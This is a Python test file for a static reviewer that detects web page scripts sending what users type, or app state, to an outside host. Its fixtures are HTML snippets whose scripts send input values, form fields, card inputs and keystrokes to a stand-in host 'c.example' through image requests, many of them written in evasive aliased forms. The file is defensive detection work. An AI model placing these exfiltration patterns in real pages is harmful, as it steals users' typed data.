"""The static layer's sources of what the user types that name no selector: HTML's named access
(an element's id, a form's name, as a global: ``q.value``, ``window.q``, ``document.all.q``),
event-handler attributes (``this`` is their element, ``event`` their event) and a form's named
controls (``f.q``, ``f.elements.q``, ``document.forms[0].q``, ``f.elements.namedItem('q')``,
``document.f.q`` for a form named ``f``). A name the scripts declare
themselves is that binding, not the element."""

from __future__ import annotations

import pytest

from flowui_sandbox.sandbox.review import review_static
from tests.work import calls_made

URL = "'https://c.example/?' + "


def leaks(source: str, *, time_limit: float = 5.0) -> list[tuple[list[str], list[str]]]:
    """(paths, hosts) of the block's exfil.input-to-url findings."""
    return [(f.paths, f.hosts) for f in review_static(source, file="b.html", time_limit=time_limit) if f.rule == "exfil.input-to-url"]


def counted(source: str) -> tuple[list[tuple[list[str], list[str]]], int]:
    """:func:`leaks` and the calls it made (the time limit out of the way: counting slows a run several times)."""
    return calls_made(lambda: leaks(source, time_limit=600))


def sends(markup: str, listener: str, read: str) -> str:
    """A block: ``markup``, then ``listener`` set to a handler that sends ``read`` to c.example."""
    return f"{markup}<script>{listener} = () => {{ new Image().src = {URL}{read} }}</script>"


# -- named access ------------------------------------------------------------------------
def test_an_ids_global_is_its_input():
    assert leaks(sends("<input id=q>", "q.oninput", "q.value")) == [(["input:#q"], ["c.example"])]


@pytest.mark.parametrize("read", ["window.q.value", "self.q.value", "globalThis['q'].value", "frames.q.value"])
def test_an_ids_global_read_through_the_window(read):
    assert leaks(sends("<input id=q>", "document.body.onclick", read)) == [(["input:#q"], ["c.example"])]


def test_a_global_alias_of_the_window_gives_named_access():
    source = f"<input id=q><script>const w = window; w.q.oninput = () => {{ new Image().src = {URL}w.q.value }}</script>"
    assert leaks(source) == [(["input:#q"], ["c.example"])]


@pytest.mark.parametrize("read", ["document.all.q.value", "document.all['q'].value"])
def test_document_all_finds_an_input_by_its_name(read):
    assert leaks(sends("<input name=q>", "document.body.onkeyup", read)) == [(["input:[name=q]"], ["c.example"])]


def test_get_elements_by_name_finds_an_input():
    assert leaks(sends("<input name=q>", "document.body.onkeyup", "document.getElementsByName('q')[0].value")) \
        == [(["input:[name=q]"], ["c.example"])]


def test_a_listener_on_the_ids_global_gets_the_input_as_this():
    source = f"<input id=q><script>q.addEventListener('input', function () {{ new Image().src = {URL}this.value }})</script>"
    assert leaks(source) == [(["input:#q"], ["c.example"])]


def test_an_id_naming_no_control_gives_no_input():
    assert leaks(sends("<div id=q></div>", "q.onclick", "q.textContent")) == []


def test_a_const_of_the_same_name_is_that_binding():
    source = f"<input id=q><script>const q = {{value: 'x'}}; document.body.onclick = () => {{ new Image().src = {URL}q.value }}</script>"
    assert leaks(source) == []


def test_a_let_in_another_script_shadows_the_global():
    source = f"<input id=q><script>let q = 1;</script><script>document.body.onclick = () => {{ new Image().src = {URL}q.value }}</script>"
    assert leaks(source) == []


def test_a_function_declaration_of_the_same_name_is_that_function():
    source = f"<input id=q><script>function q() {{ return 'x' }} new Image().src = {URL}q.value</script>"
    assert leaks(source) == []


def test_a_parameter_of_the_same_name_is_that_parameter():
    source = f"<input id=q><script>function send(q) {{ new Image().src = {URL}q.value }} send({{value: 1}})</script>"
    assert leaks(source) == []


def test_a_declaration_in_another_function_does_not_shadow_the_global():
    source = ("<input id=q><script>function other() { let q = 1; return q }\n"
              f"q.oninput = () => {{ new Image().src = {URL}q.value }}</script>")
    assert leaks(source) == [(["input:#q"], ["c.example"])]


def test_a_method_of_the_same_name_does_not_shadow_the_global():
    source = (f"<input id=q><script>class A {{ q() {{ new Image().src = {URL}q.value }} }}\n"
              "q.oninput = () => new A().q()</script>")
    assert leaks(source) == [(["input:#q"], ["c.example"])]


def test_a_named_function_expression_binds_its_name_inside_itself():
    source = f"<input id=q><script>document.body.onclick = function q() {{ new Image().src = {URL}q.value }}</script>"
    assert leaks(source) == []


def test_a_top_level_var_shadows_window_named_access():
    source = f"<input id=q><script>var q = {{value: 1}};</script><script>new Image().src = {URL}window.q.value</script>"
    assert leaks(source) == []


def test_a_top_level_let_leaves_window_named_access():
    source = f"<input id=q><script>let q = 1;</script><script>document.body.onclick = () => {{ new Image().src = {URL}window.q.value }}</script>"
    assert leaks(source) == [(["input:#q"], ["c.example"])]


def test_an_id_the_window_itself_defines_is_not_named_access():
    assert leaks(sends("<input id=name>", "document.body.onclick", "name.value")) == []


def test_an_ids_global_showing_a_count_gives_no_finding():
    source = ("<textarea id=bio></textarea><span id=chars></span>"
              "<script>bio.oninput = () => { chars.textContent = bio.value.length + ' / 280' }</script>")
    assert [f.rule for f in review_static(source)] == []


# -- event-handler attributes --------------------------------------------------------------
def test_this_in_an_input_attribute_is_the_input():
    assert leaks(f"<input id=q oninput=\"new Image().src = {URL}this.value\">") == [(["input:#q"], ["c.example"])]


def test_this_in_an_arrow_of_an_attribute_is_still_the_element():
    source = f"<input id=q onkeyup=\"setTimeout(() => {{ new Image().src = {URL}this.value }})\">"
    assert leaks(source) == [(["input:#q"], ["c.example"])]


def test_the_event_target_of_an_attribute_is_its_control():
    assert leaks(f"<input id=q onchange=\"new Image().src = {URL}event.target.value\">") == [(["input:#q"], ["c.example"])]


def test_a_key_in_a_body_attribute_is_what_the_user_types():
    assert leaks(f"<body onkeydown=\"new Image().src = {URL}event.key\"><p>x</p></body>") == [(["input:keydown"], ["c.example"])]


def test_this_in_an_attribute_of_an_element_with_no_control_gives_no_input():
    assert leaks(f"<div onclick=\"new Image().src = {URL}this.textContent\">x</div>") == []


def test_this_in_a_function_of_an_attribute_is_not_the_element():
    source = f"<input id=q oninput=\"[1].forEach(function () {{ new Image().src = {URL}this.value }})\">"
    assert leaks(source) == []


def test_the_same_attribute_text_on_two_inputs_names_both():
    handler = f"oninput=\"new Image().src = {URL}this.value\""
    assert leaks(f"<input id=a {handler}><input id=b {handler}>") == [(["input:#a", "input:#b"], ["c.example"])] * 2


def test_an_attribute_that_only_updates_text_gives_no_finding():
    source = "<textarea id=t oninput=\"document.getElementById('n').textContent = this.value.length\"></textarea><b id=n></b>"
    assert [f.rule for f in review_static(source)] == []


# -- a form's named controls ------------------------------------------------------------------
FORM = "<form id=f><input name=q><input id=r></form>"


@pytest.mark.parametrize("read, path", [
    ("f.q.value", "input:[name=q]"),
    ("f.elements.q.value", "input:[name=q]"),
    ("f['q'].value", "input:[name=q]"),
    ("f.r.value", "input:#r"),
    ("document.forms[0].q.value", "input:[name=q]"),
    ("document.forms.f.elements['q'].value", "input:[name=q]"),
    ("document.getElementById('f').q.value", "input:[name=q]"),
])
def test_a_forms_named_control_is_its_input(read, path):
    assert leaks(sends(FORM, "f.oninput", read)) == [([path], ["c.example"])]


def test_a_forms_controls_by_index_are_its_inputs():
    assert leaks(sends(FORM, "f.oninput", "f.elements[i].value")) == [(["input:#r", "input:[name=q]"], ["c.example"])]


def test_a_form_found_by_its_name_is_a_global():
    source = sends("<form name=g><textarea name=t></textarea></form>", "g.onchange", "g.t.value")
    assert leaks(source) == [(["input:[name=t]"], ["c.example"])]


def test_this_in_a_forms_attribute_gives_its_controls():
    source = f"<form oninput=\"new Image().src = {URL}this.q.value\"><input name=q></form>"
    assert leaks(source) == [(["input:[name=q]"], ["c.example"])]


def test_a_controls_form_gives_the_forms_controls():
    source = f"<form><input name=q></form><script>document.forms[0].q.oninput = function () {{ new Image().src = {URL}this.form.q.value }}</script>"
    assert leaks(source) == [(["input:[name=q]"], ["c.example"])]


def test_a_forms_member_naming_no_control_gives_no_input():
    assert leaks(sends(FORM, "f.oninput", "f.action")) == []


ANY = ["input:#r", "input:[name=q]"]


@pytest.mark.parametrize("read, paths", [
    ("f.elements.namedItem('q').value", ["input:[name=q]"]),
    ("document.getElementById('f').elements.namedItem('q').value", ["input:[name=q]"]),
    ("document.forms.namedItem('f').q.value", ["input:[name=q]"]),
    ("document.querySelector('form').elements.namedItem('r').value", ["input:#r"]),
    ("f.elements.namedItem(name).value", ANY),
    ("f.elements.item(1).value", ANY),
    ("document.forms.item(0).elements.item(1).value", [*ANY, "input:form"]),  # as document.forms gives: some form's control
])
def test_a_collections_item_and_named_item_give_what_it_holds(read, paths):
    """``namedItem('q')`` of ``document.forms``, a form or its ``elements`` is its ``.q``;
    ``item(i)``, or ``namedItem`` of a name not written out, any of them, as a computed key."""
    assert leaks(sends(FORM, "document.body.onchange", read)) == [(paths, ["c.example"])]


@pytest.mark.parametrize("read", ["document.g.t.value", "document['g'].elements.t.value", "document.g.elements.namedItem('t').value"])
def test_a_form_by_its_name_on_the_document_is_that_form(read):
    """The document's named access gives a form by its name (over the document's own members)."""
    source = sends("<form name=g><textarea name=t></textarea></form>", "document.body.onchange", read)
    assert leaks(source) == [(["input:[name=t]"], ["c.example"])]


@pytest.mark.parametrize("read", [
    "(d => d.g.t.value)(document)",
    "(function (d) { return d.forms.g.t.value; })(document)",
    "((w) => w.document.g.t.value)(window)",
])
def test_a_document_handed_to_the_only_binding_of_a_parameter_is_the_document(read):
    source = sends("<form name=g><textarea name=t></textarea></form>", "document.body.onchange", read)
    assert leaks(source) == [(["input:[name=t]"], ["c.example"])]


def test_a_parameter_whose_name_is_bound_elsewhere_is_not_made_the_document():
    # Aliases are kept by name across the scripts: `d` is bound twice, so neither binding becomes the document.
    source = sends("<form name=g><textarea name=t></textarea></form><script>const f = (d) => d.g;</script>",
                   "document.body.onchange", "(d => d.g.t.value)(document)")
    assert leaks(source) == []


@pytest.mark.parametrize("setup, read", [
    ("const d = document;", "d.g.t.value"),
    ("let d; d = document;", "d.forms.g.t.value"),
    ("const w = window;", "w.document.g.t.value"),
    ("const {document: d} = window;", "d.forms[0].t.value"),
    ("const {document: {forms: fs}} = self;", "fs.g.t.value"),
    ("", "(0, document).g.t.value"),
    ("", "document.body.ownerDocument.g.t.value"),
    ("const d = document.defaultView.document;", "d.querySelector('form').t.value"),
    ("const {forms} = document;", "forms.g.t.value"),
    ("const {forms: [f]} = document;", "f.t.value"),
    ("const {all} = document;", "all.t.value"),
    ("const {all: {t}} = window.document;", "t.value"),
])
def test_an_alias_of_the_document_is_the_document(setup, read):
    """``d.g`` is ``document.g`` when ``d`` names the document however it was bound."""
    source = sends("<form name=g><textarea name=t></textarea></form>", f"{setup} document.body.onchange", read)
    assert leaks(source) == [(["input:[name=t]"], ["c.example"])]


def test_the_document_names_no_form_by_an_id_alone_nor_a_name_no_form_has():
    """``document.x`` for an element's id (not a form's name) is no named access, nor is a name
    no form of the block has."""
    source = sends("<form id=g><input name=t></form><input name=u>", "document.body.onchange", "document.g.t.value + document.u.value")
    assert leaks(source) == []


def test_item_of_a_list_that_holds_no_form_gives_no_input():
    source = sends("<ul><li>a</li></ul>", "document.body.onclick", "document.querySelectorAll('li').item(0).textContent")
    assert leaks(source) == []


# -- cost --------------------------------------------------------------------------------------
def test_a_chain_of_item_calls_costs_work_in_proportion_to_its_length(monkeypatch):
    """Each ``.item(0)`` of a chain reads its receiver once: read twice (once for a collection's
    item, once as any call), a chain of 22 took over a minute."""
    from flowui_sandbox.sandbox.review import flow

    calls = 0
    real = flow.Flow._labels

    def counted(self, node):
        nonlocal calls
        calls += 1
        return real(self, node)

    monkeypatch.setattr(flow.Flow, "_labels", counted)
    source = sends(FORM, "document.body.onclick", "document.body" + ".item(0)" * 20 + ".value")
    assert leaks(source) == []
    assert calls < 2_000, calls  # doubling per link: over a million


def test_many_nested_uses_of_a_shadowed_name_stay_linear():
    def source(depth: int) -> str:
        # One use of the parameter q (shadowing the input's id) at every depth of nested blocks.
        return "<input id=q><script>function g(q) {\n" + "if (q) { x = q.value;\n" * depth + "}" * depth + "}</script>"

    # Twice the depth, at most 2.4 times the calls (2.0 today): a walk up from each use to its
    # binding, or to an enclosing `with`, that is not memoised makes it 3 to 4.
    small, small_calls = counted(source(200))
    large, large_calls = counted(source(400))
    assert small == large == []
    assert large_calls < 2.4 * small_calls, (small_calls, large_calls)


def test_many_methods_of_one_name_and_their_calls_stay_linear():
    def source(n: int) -> str:
        methods = "\n".join(f"const o{i} = {{go(u) {{ return u + {i}; }}}};" for i in range(n))
        return f"<input id=q><script>{methods}\n" + "\n".join(f"o{i}.go(q.value);" for i in range(n)) + "</script>"

    # Twice the methods and calls, at most 2.4 times the calls (2.0 today; each call handed to each
    # method of its name made it 3.5).
    small, small_calls = counted(source(100))
    large, large_calls = counted(source(200))
    assert small == large == []
    assert large_calls < 2.4 * small_calls, (small_calls, large_calls)


# -- controls reached through lists, labels, neighbours and focus events ----------------------------
NEIGHBOURS = "<form id=f><label for=c>Card</label><input id=c name=card><textarea name=note></textarea></form>"
BOTH = ["input:#c", "input:[name=note]"]


@pytest.mark.parametrize("read, paths", [
    ("[...document.querySelectorAll('input, textarea')].map(i => i.value).join()", BOTH),
    ("Array.from(document.querySelectorAll('textarea'), (t) => t.value)", ["input:[name=note]"]),
    ("Array.from(document.querySelectorAll('textarea')).filter(Boolean).map(function (t) { return t.value })",
     ["input:[name=note]"]),
    ("[...f.elements].reduce((s, e) => s + e.value, '')", BOTH),
    ("document.querySelector('label').control.value", BOTH),
    ("document.querySelector('#c').labels[0].control.value", BOTH),
    ("c.nextElementSibling.value", BOTH),
    ("document.body.querySelector('form').lastElementChild.value", BOTH),
    ("document.querySelector('#c').closest('form').note.value", ["input:[name=note]"]),
])
def test_a_control_reached_through_a_list_a_label_or_a_neighbour_is_an_input(read, paths):
    assert leaks(sends(NEIGHBOURS, "document.body.onchange", read)) == [(paths, ["c.example"])]


@pytest.mark.parametrize("event", ["blur", "focusout", "invalid"])
def test_a_controls_focus_events_give_it_as_this_and_as_the_target(event):
    source = (f"{NEIGHBOURS}<script>c.addEventListener('{event}', function (e) {{ new Image().src = {URL}this.value"
              f" + e.target.value }})</script>")
    assert leaks(source) == [(["input:#c"], ["c.example"])]


def test_a_recursive_callback_of_map_ends():
    """``value.map(sortKeys)`` inside ``sortKeys``: its return is read once."""
    source = ("<textarea id=t></textarea><script>function sortKeys(v) { return Array.isArray(v) ? v.map(sortKeys) : v }"
              f" t.onchange = () => {{ new Image().src = {URL}sortKeys([t.value]) }}</script>")
    assert leaks(source) == [(["input:#t"], ["c.example"])]


def test_a_list_of_controls_mapped_to_a_count_gives_no_input():
    source = sends(NEIGHBOURS, "document.body.onchange", "[...document.querySelectorAll('input')].map(i => i.id.length).length")
    assert leaks(source) == []


# -- objects kept in other objects -------------------------------------------------------------
@pytest.mark.parametrize("setup, read", [
    ("const o = {el: q};", "o.el.value"),
    ("const o = {['e' + 'l']: q}; const {el} = o;", "el.value"),
    ("const o = {box: {el: q}};", "o.box.el.value"),
    ("const o = {}; o.el = q;", "o.el.value"),
    ("const o = {}; o['e' + 'l'] = q;", "o.el.value"),
    ("const reg = {}; function keep(k, v) { reg[k] = v; } keep('x', q);", "reg.x.value"),
    ("const reg = {}; [q].forEach((v, i) => { reg[i] = v; });", "reg[0].value"),
    ("const el = q; const o = {el};", "o.el.value"),
    ("const m = new Map(); m.set('k', q);", "m.get('k').value"),
    ("const m = new Map([['k', q]]);", "m.get('k').value"),
    ("const o = {}; Object.defineProperty(o, 'el', {value: q});", "o.el.value"),
    ("const o = Object.fromEntries([['el', q]]);", "o.el.value"),
    ("function Holder(x) { this.x = x; } const o = new Holder(q);", "o.x.value"),
    ("class Holder { constructor(x) { this.x = x; } } const o = new Holder(q);", "o.x.value"),
    ("class Box { put(x) { this.x = x; } } const o = new Box(); o.put(q);", "o.x.value"),
])
def test_a_control_kept_in_an_object_is_its_input(setup, read):
    source = f"<input id=q><script>{setup}</script>" + sends("", "document.body.onchange", read)
    assert leaks(source) == [(["input:#q"], ["c.example"])]


def test_an_object_holding_a_control_gives_no_input_through_its_other_members():
    source = ("<input id=q><script>const ui = {field: q, label: 'Quantity'};</script>"
              + sends("", "document.body.onchange", "ui.label.length"))
    assert leaks(source) == []


@pytest.mark.parametrize("setup, call", [
    ("const o = {f: flowUi};", "o.f.openUrl"),
    ("const box = {api: {inner: flowUi}};", "box.api.inner.openUrl"),
    ("const o = {}; o.f = flowUi;", "o.f.openUrl"),
    ("const {f} = {f: flowUi};", "f.openUrl"),
    ("const m = new Map([['f', flowUi]]);", "m.get('f').openUrl"),
    ("const m = new WeakMap(); const key = {}; m.set(key, flowUi);", "m.get(key).openUrl"),
    ("const api = Object.create(flowUi);", "api.openUrl"),
    ("class A { constructor() { this.f = flowUi; } go(u) { this.f.openUrl(u); } } const a = new A();", "a.go"),
    ("const o = {go: (u) => flowUi.openUrl(u)};", "o.go"),
])
def test_flowui_kept_in_an_object_is_the_bridge(setup, call):
    source = f"<script>{setup} document.body.onclick = () => {call}('https://c.example/?' + flowUi.get('order.total'));</script>"
    found = [(f.rule, f.paths) for f in review_static(source, file="b.html", fields=["order.total"])
             if f.rule.startswith(("exfil.", "projection.unprojected"))]
    assert found == [("exfil.state-to-url", ["order.total"])]  # and a map's get is no read of the state
